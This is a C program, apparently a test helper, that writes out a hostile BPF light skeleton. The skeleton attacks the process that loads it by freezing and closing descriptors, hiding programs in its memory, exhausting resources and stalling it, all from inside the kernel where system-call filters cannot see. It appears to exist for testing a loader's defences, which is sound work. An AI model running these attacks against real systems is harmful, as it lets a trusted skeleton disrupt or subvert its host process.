// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * Writes the instructions and data of a light skeleton that attacks the process in which it runs, as somebody
 * could sign one whose key is trusted. Everything is done by the program itself, in the kernel, with
 * bpf_sys_bpf() and bpf_sys_close(): no system-call filter sees any of it.
 *
 *	hostile-skeleton INSNS DATA descriptors ADDRESS
 *		updates, freezes and links every descriptor number up to 255, lets the verifier write its log
 *to ADDRESS and then closes all those descriptors hostile-skeleton INSNS DATA ids FIRST LAST opens maps by
 *their ids, and freezes what it could open hostile-skeleton INSNS DATA hide HEADER STRIDE COUNT hides a
 *program in an array of programs, and hands that array over as each of its maps hostile-skeleton INSNS DATA
 *allocate makes maps until no descriptor is left hostile-skeleton INSNS DATA linger ROUNDS closes its socket
 *and then waits for ROUNDS grace periods, which no signal ends
 */
#include <err.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define INSNS_MAX 4096
#define ATTR      (-128) /* union bpf_attr, on the stack */
#define KEY       (-8)
#define VALUE     (-16)

#define SYS_BPF   166
#define SYS_CLOSE 168

static struct bpf_insn insns[INSNS_MAX];
static size_t n_insns;

/* What the skeleton's map holds: a licence, and the program that it loads, `return 0`. */
static const struct {
	char license[16];
	struct bpf_insn program[2];
} data = {
	.license = "GPL",
	.program = { { .code = BPF_ALU64 | BPF_MOV | BPF_K }, { .code = BPF_JMP | BPF_EXIT } },
};

static void emit(uint8_t code, uint8_t dst, uint8_t src, int16_t off, int32_t imm)
{
	if (n_insns == INSNS_MAX)
		errx(1, "too many instructions");
	insns[n_insns++] = (struct bpf_insn){
		.code = code, .dst_reg = dst & 0xf, .src_reg = src & 0xf, .off = off, .imm = imm
	};
}

static void set(uint8_t reg, int32_t value)
{
	emit(BPF_ALU64 | BPF_MOV | BPF_K, reg, 0, 0, value);
}

static void copy(uint8_t to, uint8_t from)
{
	emit(BPF_ALU64 | BPF_MOV | BPF_X, to, from, 0, 0);
}

static void attr_clear(void)
{
	for (int16_t at = ATTR; at < VALUE; at += 8)
		emit(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, at, 0);
}

static void attr_number(int16_t at, int32_t value)
{
	emit(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, (int16_t)(ATTR + at), value);
}

static void attr_reg(int16_t at, uint8_t reg)
{
	emit(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, reg, (int16_t)(ATTR + at), 0);
}

static void attr_stack(int16_t at, int16_t what)
{
	copy(BPF_REG_1, BPF_REG_10);
	emit(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, what);
	emit(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_1, (int16_t)(ATTR + at), 0);
}

static void load_imm64(uint8_t src, int32_t low, int32_t high)
{
	emit(BPF_LD | BPF_IMM | BPF_DW, BPF_REG_1, src, 0, low);
	emit(0, 0, 0, 0, high);
}

static void attr_data(int16_t at, size_t offset)
{
	load_imm64(BPF_PSEUDO_MAP_IDX_VALUE, 0, (int32_t)offset);
	emit(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_1, (int16_t)(ATTR + at), 0);
}

static void attr_address(int16_t at, uint64_t address)
{
	load_imm64(0, (int32_t)(uint32_t)address, (int32_t)(uint32_t)(address >> 32));
	emit(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_1, (int16_t)(ATTR + at), 0);
}

/* The outcome is in register 0. */
static void sys_bpf(int command)
{
	set(BPF_REG_1, command);
	copy(BPF_REG_2, BPF_REG_10);
	emit(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, ATTR);
	set(BPF_REG_3, VALUE - ATTR);
	emit(BPF_JMP | BPF_CALL, 0, 0, 0, SYS_BPF);
}

static void sys_close(uint8_t fd)
{
	copy(BPF_REG_1, fd);
	emit(BPF_JMP | BPF_CALL, 0, 0, 0, SYS_CLOSE);
}

static void map_create(int type, int value_size, int entries, uint8_t inner)
{
	attr_clear();
	attr_number(0, type);
	attr_number(4, 4);
	attr_number(8, value_size);
	attr_number(12, entries);
	if (inner)
		attr_reg(20, inner);
	sys_bpf(BPF_MAP_CREATE);
}

/* Element 0 of the map becomes the value in the stack. */
static void map_update(uint8_t map)
{
	attr_clear();
	attr_reg(0, map);
	attr_stack(8, KEY);
	attr_stack(16, VALUE);
	sys_bpf(BPF_MAP_UPDATE_ELEM);
}

static void with_number(int command, uint8_t reg)
{
	attr_clear();
	attr_reg(0, reg);
	sys_bpf(command);
}

static void prog_load(uint64_t log)
{
	attr_clear();
	attr_number(0, BPF_PROG_TYPE_RAW_TRACEPOINT);
	attr_number(4, 2);
	attr_data(8, 16);
	attr_data(16, 0);
	if (log) {
		attr_number(24, 2);
		attr_number(28, 4096);
		attr_address(32, log);
	}
	attr_number(48, 'e' << 24 | 'l' << 16 | 'i' << 8 | 'v');
	sys_bpf(BPF_PROG_LOAD);
}

/* Register 7 counts; returns where the body begins. */
static size_t loop_begin(int32_t first)
{
	set(BPF_REG_7, first);
	return n_insns;
}

static void loop_end(size_t begin, int32_t last)
{
	emit(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_7, 0, 0, 1);
	emit(BPF_JMP | BPF_JLE | BPF_K, BPF_REG_7, 0, (int16_t)((long)begin - (long)n_insns - 1), last);
}

static void descriptors(uint64_t address)
{
	size_t loop = loop_begin(0);

	map_update(BPF_REG_7);
	with_number(BPF_MAP_FREEZE, BPF_REG_7);
	with_number(BPF_LINK_CREATE, BPF_REG_7);
	with_number(BPF_RAW_TRACEPOINT_OPEN, BPF_REG_7);
	loop_end(loop, 255);
	prog_load(address);
	loop = loop_begin(0);
	sys_close(BPF_REG_7);
	loop_end(loop, 255);
}

static void ids(int32_t first, int32_t last)
{
	size_t loop = loop_begin(first);

	with_number(BPF_MAP_GET_FD_BY_ID, BPF_REG_7);
	copy(BPF_REG_8, BPF_REG_0);
	with_number(BPF_MAP_FREEZE, BPF_REG_8);
	loop_end(loop, last);
}

static void hide(int header, int stride, int count)
{
	map_create(BPF_MAP_TYPE_PROG_ARRAY, 4, 1, 0);
	copy(BPF_REG_8, BPF_REG_0);
	prog_load(0);
	emit(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, BPF_REG_0, VALUE, 0);
	map_update(BPF_REG_8);
	for (int i = 0; i < count; i++)
		emit(BPF_STX | BPF_MEM | BPF_W, BPF_REG_6, BPF_REG_8, (int16_t)(header + stride * i), 0);
}

static void allocate(void)
{
	size_t loop = loop_begin(0);

	map_create(BPF_MAP_TYPE_ARRAY, 4096, 16, 0);
	loop_end(loop, 9999);
}

static void linger(int32_t rounds)
{
	size_t loop;

	map_create(BPF_MAP_TYPE_ARRAY, 8, 1, 0);
	copy(BPF_REG_8, BPF_REG_0);
	emit(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, BPF_REG_0, VALUE, 0);
	map_create(BPF_MAP_TYPE_ARRAY_OF_MAPS, 4, 1, BPF_REG_8);
	copy(BPF_REG_8, BPF_REG_0);
	set(BPF_REG_7, 3);
	sys_close(BPF_REG_7);
	loop = loop_begin(1);
	map_update(BPF_REG_8);
	loop_end(loop, rounds);
}

static void write_file(const char *path, const void *bytes, size_t size)
{
	FILE *f = fopen(path, "we");

	if (!f || fwrite(bytes, 1, size, f) != size || fclose(f))
		err(1, "%s", path);
}

static long argument(char **argv, int argc, int i)
{
	if (i >= argc)
		errx(2, "%s wants another argument", argv[3]);
	return strtol(argv[i], NULL, 0);
}

int main(int argc, char **argv)
{
	if (argc < 4)
		errx(2, "usage: %s INSNS DATA ATTACK [ARGUMENT…]", argv[0]);
	copy(BPF_REG_6, BPF_REG_1);
	emit(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, KEY, 0);
	emit(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, VALUE, 0);
	if (!strcmp(argv[3], "descriptors"))
		descriptors((uint64_t)argument(argv, argc, 4));
	else if (!strcmp(argv[3], "ids"))
		ids((int32_t)argument(argv, argc, 4), (int32_t)argument(argv, argc, 5));
	else if (!strcmp(argv[3], "hide"))
		hide((int)argument(argv, argc, 4), (int)argument(argv, argc, 5),
		     (int)argument(argv, argc, 6));
	else if (!strcmp(argv[3], "allocate"))
		allocate();
	else if (!strcmp(argv[3], "linger"))
		linger((int32_t)argument(argv, argc, 4));
	else
		errx(2, "no attack is named %s", argv[3]);
	set(BPF_REG_0, 0);
	emit(BPF_JMP | BPF_EXIT, 0, 0, 0, 0);
	write_file(argv[1], insns, n_insns * sizeof(*insns));
	write_file(argv[2], &data, sizeof(data));
	return 0;
}
